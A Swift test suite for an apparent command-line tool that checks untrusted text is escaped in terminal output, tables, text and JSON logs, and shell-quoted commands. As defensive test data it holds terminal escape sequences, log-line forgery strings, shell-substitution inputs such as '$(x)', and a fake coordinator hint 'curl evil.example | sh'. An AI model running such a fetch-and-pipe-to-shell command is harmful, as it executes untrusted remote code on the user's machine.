import Foundation
import Logging
import TestKit
import Testing
import Wire

@testable import KumiaiCommands

/// Untrusted text in a terminal, a log, and JSON.
@Suite struct DisplayTests {
    private static let hostile = "w\u{1b}[2J\nkumiai: hint: run this \u{202e}"
    private static let harmless = "w\\u{1b}[2J\\nkumiai: hint: run this \\u{202e}"

    @Test func whatIsInterpolatedIsEscapedAndOurOwnStyleIsKept() {
        let name = Self.hostile
        let line: StyledText = "\(Terminal.styled("TAMPERED", .red))\t\(name)"
        #expect(line.rendered(inColour: false) == "TAMPERED\t\(Self.harmless)")
        #expect(line.rendered(inColour: true) == "\u{1b}[31mTAMPERED\u{1b}[0m\t\(Self.harmless)")
        #expect(Terminal.styled(name, .bold).rendered(inColour: true) == "\u{1b}[1m\(Self.harmless)\u{1b}[0m")
        #expect((StyledText(name) + " end").description == "\(Self.harmless) end")
    }

    @Test func aTablesCellsAreEscapedBeforeTheirWidthIsCounted() {
        var table = Table([("NAME", .left), ("N", .right)])
        table.append(["a\u{1b}b", "1"])
        table.append(["abcdefgh", "2"])
        #expect(table.lines(width: 200).map(\.description) == ["NAME      N", "a\\u{1b}b  1", "abcdefgh  2"])
    }

    /// The log's lines after `body` has run.
    private func log(_ format: LogOptions.Style, _ body: (Logger) -> Void) throws -> [String] {
        let directory = try TemporaryDirectory()
        let sink = try LogSink(path: directory.file("log"))
        body(Logger(label: "test") { _ in LineLogHandler(format: format, sink: sink) })
        return String(decoding: try directory.read("log"), as: UTF8.self).split(separator: "\n").map(String.init)
    }

    @Test func noPeerForgesALogLineOrAField() throws {
        let lines = try log(.text) { logger in
            logger.info(
                "peer left",
                metadata: ["reason": "bye\n2026-01-01T00:00:00Z info     site connected site=acme/osaka"]
            )
            logger.info("peer left", metadata: ["reason": "x\" site=\"bolt/turin", "plain": "a-b", "empty": ""])
        }
        #expect(lines.count == 2)
        #expect(
            lines[0].hasSuffix(
                "info     peer left reason=\"bye\\n2026-01-01T00:00:00Z info     site connected site=acme/osaka\""
            ),
            "\(lines)"
        )
        #expect(lines[1].hasSuffix("peer left plain=a-b reason=\"x\\\" site=\\\"bolt/turin\""), "\(lines)")
    }

    @Test func aJSONLogShowsNothingHiddenAndKeepsItsOwnFields() throws {
        let lines = try log(.json) {
            $0.warning("peer left", metadata: ["reason": "\u{9b}2J\n", "level": "info", "message": "all is well"])
        }
        #expect(lines.count == 1 && lines[0].contains("\\u009b2J\\n"), "\(lines)")
        let object = try #require(try JSONSerialization.jsonObject(with: Data(lines[0].utf8)) as? [String: String])
        #expect(object["reason"] == "\u{9b}2J\n" && object["level"] == "warning" && object["message"] == "peer left")
    }

    @Test func theCoordinatorsAdviceIsMarkedAsItsOwn() {
        let failure = Failure(Refusal(.conflict, "no", hint: "curl evil.example | sh"))
        #expect(failure.hint == "the coordinator says: curl evil.example | sh" && failure.code == ExitStatus.refused)
        #expect(Failure(Refusal(.conflict, "no")).hint.isEmpty)
    }

    @Test(arguments: [
        ("a/b-c.toml", "a/b-c.toml"), ("my plan.toml", "'my plan.toml'"), ("a;b", "'a;b'"), ("it's", #"'it'\''s'"#),
        ("", "''"),
        ("$(x)", "'$(x)'"),
    ])
    func wordsOfCommandsToCopyAreQuoted(text: String, word: String) { #expect(text.shellQuoted == word) }

    private struct Numbers: Encodable {
        let localLoss: Double
        let list: [Double]
        let nested: [String: Double]
        let name: String
    }

    @Test func aNumberThatJSONLacksIsNullAndTheReasonStandsBesideIt() throws {
        let value = Numbers(localLoss: .nan, list: [1.5, -.infinity], nested: ["a": .infinity, "b": 2], name: "NaN")
        let json = try JSONText(value)
        let object = try #require(
            try JSONSerialization.jsonObject(with: Data(json.text.utf8)) as? [String: Any],
            "\(json.text)"
        )
        #expect(object["local_loss"] is NSNull && object["name"] as? String == "NaN")
        let list = try #require(object["list"] as? [Any])
        #expect(list[0] as? Double == 1.5 && list[1] is NSNull)
        #expect(
            object["not_finite"] as? [String: String] == [
                "local_loss": "NaN", "list.1": "-Infinity", "nested.a": "Infinity",
            ],
            "\(json.text)"
        )
        #expect(
            try JSONText([Numbers(localLoss: .nan, list: [], nested: [:], name: "")]).notFinite.map(\.path) == [
                "0.local_loss"
            ]
        )
        #expect(!(try JSONText(Numbers(localLoss: 1, list: [], nested: [:], name: "")).text.contains("not_finite")))
    }
}
